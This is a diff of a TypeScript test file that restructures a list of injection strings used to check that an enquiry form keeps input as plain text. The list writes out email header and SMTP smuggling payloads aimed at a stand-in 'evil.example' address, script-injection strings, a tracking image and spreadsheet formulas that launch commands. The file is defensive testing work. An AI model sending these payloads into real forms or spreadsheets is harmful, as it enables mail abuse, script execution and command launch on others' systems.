@@ -14,46 +14,38 @@ const mailsAbout = (reference: string) =>
   server.mail.received.filter((mail) => mail.raw.includes(reference) || mail.subject?.includes(reference));
 
 /** Injections for mail programs, spreadsheets and browsers; each is sent in every text field. */
-const hostile: readonly (readonly [string, string])[] = [
-  ['a header behind CRLF', 'Asha\r\nBcc: thief@evil.example\r\nX-Evil: 1'],
-  ['a header behind a line feed', 'Asha\nBcc: thief@evil.example'],
-  ['a header behind a carriage return', 'Asha\rBcc: thief@evil.example'],
-  [
-    'a header behind other line ends',
+const hostile = {
+  'a header behind CRLF': 'Asha\r\nBcc: thief@evil.example\r\nX-Evil: 1',
+  'a header behind a line feed': 'Asha\nBcc: thief@evil.example',
+  'a header behind a carriage return': 'Asha\rBcc: thief@evil.example',
+  'a header behind other line ends':
     'Asha\u2028Bcc: thief@evil.example\u0085Cc: thief@evil.example\u000bTo: x',
-  ],
-  ['an escaped header', 'Asha%0d%0aBcc:%20thief@evil.example'],
-  ['a body behind an empty line', 'Asha\r\n\r\n<html><script>alert(1)</script>'],
-  [
-    'an end of the message',
+  'an escaped header': 'Asha%0d%0aBcc:%20thief@evil.example',
+  'a body behind an empty line': 'Asha\r\n\r\n<html><script>alert(1)</script>',
+  'an end of the message':
     'Asha\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<thief@evil.example>\r\nDATA\r\nhi\r\n.',
-  ],
-  [
-    'an end of the message by line feeds',
+  'an end of the message by line feeds':
     'Asha\n.\nMAIL FROM:<a@evil.example>\nRCPT TO:<thief@evil.example>\nDATA\n',
-  ],
-  ['an end of a part', 'Asha\r\n--=_nmp\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n'],
-  ['an encoded word', '=?utf-8?Q?=0D=0ABcc=3A_thief=40evil.example?= =?utf-7?Q?+AA0ACg-?='],
-  ['a second address', 'Asha <thief@evil.example>, "x" <y@evil.example>;'],
-  ['a script', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
-  ['an end of an attribute', `"><svg onload=alert(1)>'><a href='javascript:alert(1)'>`],
-  ['a style that hides', '</span></div></body><style>*{display:none}</style><!--'],
-  [
-    'a picture that reports',
+  'an end of a part': 'Asha\r\n--=_nmp\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n',
+  'an encoded word': '=?utf-8?Q?=0D=0ABcc=3A_thief=40evil.example?= =?utf-7?Q?+AA0ACg-?=',
+  'a second address': 'Asha <thief@evil.example>, "x" <y@evil.example>;',
+  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
+  'an end of an attribute': `"><svg onload=alert(1)>'><a href='javascript:alert(1)'>`,
+  'a style that hides': '</span></div></body><style>*{display:none}</style><!--',
+  'a picture that reports':
     '<img src="https://evil.example/seen.gif"><link rel=stylesheet href=//evil.example>',
-  ],
-  ['a formula', '=HYPERLINK("https://evil.example","Open")'],
-  ['a formula that calls', "=cmd|' /C calc'!A0"],
-  ['a formula with a plus', '+1+cmd|calc'],
-  ['a formula with a minus', '-2+3+cmd|calc'],
-  ['a formula with an at', '@SUM(1+1)*cmd|calc'],
-  ['a formula behind a tab', '\t=1+1'],
-  ['signs of direction', '\u202eelpmaxe.live\u202c \u2066x'],
-  ['null bytes', 'As\0ha\u0007\u001b[31m'],
-  ['marks piled upon marks', `A${'\u0316\u0489'.repeat(60)}`],
-];
+  'a formula': '=HYPERLINK("https://evil.example","Open")',
+  'a formula that calls': "=cmd|' /C calc'!A0",
+  'a formula with a plus': '+1+cmd|calc',
+  'a formula with a minus': '-2+3+cmd|calc',
+  'a formula with an at': '@SUM(1+1)*cmd|calc',
+  'a formula behind a tab': '\t=1+1',
+  'signs of direction': '\u202eelpmaxe.live\u202c \u2066x',
+  'null bytes': 'As\0ha\u0007\u001b[31m',
+  'marks piled upon marks': `A${'\u0316\u0489'.repeat(60)}`,
+};
 
-test.each(hostile)('%s in an enquiry stays plain text', async (what, text) => {
+test.each(Object.entries(hostile))('%s in an enquiry stays plain text', async (what, text) => {
   const answer = await server.post({
     name: text,
     organization: text,
